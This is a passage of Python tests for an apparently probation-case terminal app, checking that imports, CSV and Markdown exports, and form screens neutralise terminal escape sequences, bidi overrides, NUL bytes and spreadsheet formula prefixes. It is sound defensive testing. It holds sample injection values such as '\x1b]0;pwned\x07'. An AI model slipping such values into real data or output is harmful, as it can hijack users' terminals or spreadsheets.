            ["crn", "name", "practitioner", "rosh", "sentence_type", "sentence_start", "tier"],
            ["A111111", lead + case_name, lead + "Sam Spo", "LOW", "LICENCE", "01/10/2026", case_name],
        ]
    )
    (folder / "cases.csv").write_text(cases.getvalue())

    imported_staff = None
    for kind in ("staff", "cases"):
        before = snapshot(db)
        try:
            report = import_file(ctx, kind, folder / f"{kind}.csv")
        except ValidationError as error:  # a file refused whole (a NUL byte, a broken header): nothing written
            assert "\x1b" not in str(error)
            assert snapshot(db) == before
            continue
        rendered = report.render(limit=None)
        assert all(ch not in rendered for ch in ("\x1b", "\x07", "\x9b", "\u202e", "\x00"))
        if not report.ok:
            assert snapshot(db) == before  # a clean report refusing the rows, nothing written
        elif kind == "staff":
            imported_staff = db.execute("SELECT name FROM staff WHERE role = 'CASPO' ORDER BY rowid LIMIT 1").fetchone()
    _stored_text_is_clean(db)

    if imported_staff is not None:
        caspo = make_context(db, rules, imported_staff[0], clock=fixed_clock(NOW))
        decisions.record_oversight(
            caspo, crn=HIGH_CRN, outcome="guidance_given", discussed=lead + "x", decision=lead + "y"
        )
        text, count = export.export_oversight(caspo, fmt="csv")
        assert count == 1
        assert all(ch not in text for ch in ("\x1b", "\x07", "\x9b", "\u202e", "\x00"))
        for row in csv.reader(io.StringIO(text)):
            for value in row:
                assert not value.lstrip(" ").startswith(FORMULA_STARTS), value
    db.close()


def test_the_markdown_exports_show_stored_control_characters_as_escapes(ctx, db):
    """A check-in note stored with an escape sequence (by an older version) is written out visibly."""
    rhythm.add_team_note(ctx, "concern", "Worried about X123456")
    db.table("team_notes").insert(
        {
            "id": "n-old",
            "day": ctx.today.isoformat(),
            "kind": "note",
            "text": "Said \x1b]0;pwned\x07 at reception",
            "created_at": ctx.now_iso,
        }
    )
    db.execute("UPDATE cases SET name = ? WHERE crn = ?", ["Alex \x1b[2J Example", HIGH_CRN])

    text = rhythm.checkin_export(ctx) + team.monthly_export(ctx)

    assert "\x1b" not in text and "\x07" not in text
    assert "Said \\\\x1b\\]0;pwned\\\\x07 at reception" in text  # Markdown-escaped: reads \x1b]0;pwned\x07


async def test_a_form_shows_stored_names_in_its_choices_and_fields_literally(poisoned):
    from spo_tui.app import SpoApp
    from spo_tui.screens.entry_form import EntryForm, Field

    app = SpoApp(poisoned, clock=fixed_clock(NOW))
    async with app.run_test(size=(160, 45)) as pilot:
        await pilot.pause(0.3)
        form = EntryForm(
            heading="Correct \x1b]0;x\x07 the case",
            submit=lambda values: None,
            changed_only=True,
            fields=[
                Field("practitioner", "Practitioner", "select", [("[b]Pat[/] \x1b[2J Officer", "pat")], value="pat"),
                Field("name", "Name", value="Joe \x1b[2J [red]Bloggs[/]"),
                Field("notes", "Notes", "textarea", value="line \x1b]0;x\x07 one\nline two"),
            ],
        )
        await app.push_screen(form)
        await pilot.pause()
        text = drawn(app)
        assert_no_control_characters(text)
        for shown in (
            "Correct \\x1b]0;x\\x07 the case",
            "[b]Pat[/] \\x1b[2J Officer",
            "Joe \\x1b[2J [red]Bloggs[/]",
            "line \\x1b]0;x\\x07 one",
        ):
            assert shown in text, shown
        assert form.values() == {}  # opening shows the escapes; nothing counts as changed until typed
